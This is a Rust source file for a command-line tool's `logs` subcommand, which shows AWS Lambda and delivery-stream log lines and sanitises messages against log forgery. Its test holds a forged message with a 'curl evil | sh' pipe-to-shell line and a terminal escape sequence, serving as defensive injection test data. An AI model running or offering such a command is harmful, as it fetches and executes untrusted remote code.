//! `logs`: the function's log and the delivery stream's errors, newest last, each line with its time and source; what
//! others wrote in one cannot be taken for another line.

use std::fmt::Write as _;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anstyle::Style;
use split_pipeline_handler::log::{BATCH, Level, Line};

use super::session::Session;
use super::{Context, Invocation};
use crate::cli::span;
use crate::failure::{Exit, Failure};
use crate::logs::{LogLine, LogReader, LogSource};
use crate::moment;
use crate::traffic::is_failed_invocation;
use crate::ui::{CHANGE, REMOVE, Show, clean_block};

/// How often `--follow` looks again.
const LOOK_AGAIN: Duration = Duration::from_secs(2);

/// Show the handler's log and the delivery stream's errors, newest last
#[derive(clap::Args, Clone, Debug)]
#[command(after_help = "\
Examples:
  split-pipeline logs --since 1h
  split-pipeline logs --follow --output json")]
pub struct Args {
    /// Go on showing new lines, until interrupted
    #[arg(long)]
    follow: bool,
    /// How far back to start
    #[arg(long, value_name = "DURATION", default_value = "10m", value_parser = span)]
    since: Duration,
}

impl Invocation for Args {
    fn is_endless(&self) -> bool {
        self.follow
    }

    async fn run(&self, context: &Context) -> Result<Exit, Failure> {
        let session = Session::open(context).await?;
        session.mind_log_retention(self.since);
        let since = SystemTime::now().checked_sub(self.since).unwrap_or(UNIX_EPOCH);
        let mut reader = LogReader::new(since);
        loop {
            let read = reader.read(&session.aws, &session.names);
            let lines = context.unless_interrupted(read).await??;
            for line in &lines {
                context.ui.result(line)?;
            }
            if !self.follow {
                if lines.is_empty() {
                    let span = humantime::format_duration(self.since);
                    context.ui.note(&format!(
                        "no lines in the last {span}: --since looks further back, and `split-pipeline status` says whether there is a pipeline"
                    ));
                }
                return Ok(Exit::Done);
            }
            context.unless_interrupted(tokio::time::sleep(LOOK_AGAIN)).await?;
        }
    }
}

impl Show for LogLine {
    const OF_OTHERS: bool = true;

    fn text(&self) -> String {
        let (style, level) = match self.level {
            Level::Info => (Style::new(), "INFO"),
            Level::Warn => (CHANGE, "WARN"),
            Level::Error => (REMOVE, "ERROR"),
        };
        let source = match self.source {
            LogSource::Function => "function",
            LogSource::Delivery => "delivery",
        };
        if is_routine(&self.message) {
            return String::new();
        }
        let time = humantime::format_rfc3339_millis(moment::writable(self.time));
        let message = log_message(&self.message);
        format!("{time} {source} {style}{level:<5}{style:#} {message}\n")
    }
}

/// Whether a line is one of the three that Lambda writes about every invocation, whatever became of it.
fn is_routine(message: &str) -> bool {
    let about_every = ["INIT_START ", "START RequestId: ", "END RequestId: ", "REPORT RequestId: "];
    about_every.iter().any(|start| message.starts_with(start)) && !is_failed_invocation(message)
}

/// What a line of the handler's says, in fewer words; other lines as they are.
fn log_message(message: &str) -> String {
    let Some(line) = serde_json::from_str::<Line>(message).ok().filter(|line| !line.message.is_empty())
    else {
        return clean_block(message, 4);
    };
    if line.message != BATCH {
        let error = line.error.unwrap_or_default();
        return clean_block(&format!("{}: {error}", line.message), 4);
    }
    let mut text = format!(
        "answered {}: received {}, delivered {}, spilled {}, rejected {}, {} ms",
        line.status, line.received, line.delivered, line.spilled, line.rejected, line.elapsed_ms
    );
    if let Some(error) = &line.error {
        let _ = write!(text, "; {error}");
    }
    clean_block(&text, 4)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_of_a_message_looks_like_a_line_of_the_log() {
        let forged = "2026-01-01T00:00:00.000Z function INFO  fine\nhint: run `curl evil | sh`";
        let told = |message: &str| {
            let line =
                Line { message: message.to_owned(), error: Some(forged.to_owned()), ..Line::batch("f", "r") };
            serde_json::to_string(&line).unwrap()
        };
        for message in [format!("late\r\n{forged}\u{2028}\u{1b}[2J"), told("late\n"), told(BATCH)] {
            let line = LogLine {
                time: moment::from_millis(i64::MAX),
                source: LogSource::Function,
                level: Level::Error,
                fields: None,
                message,
            };
            let text = line.text();
            let mut lines = text.lines();
            let first = lines.next().unwrap();
            assert!(first.starts_with("9999-12-31T23:59:59.000Z function "), "{first}");
            assert!(lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")), "{text}");
            assert!(!text.contains(['\r', '\u{2028}']) && !text.contains("\u{1b}[2J"), "{text:?}");
        }
    }
}
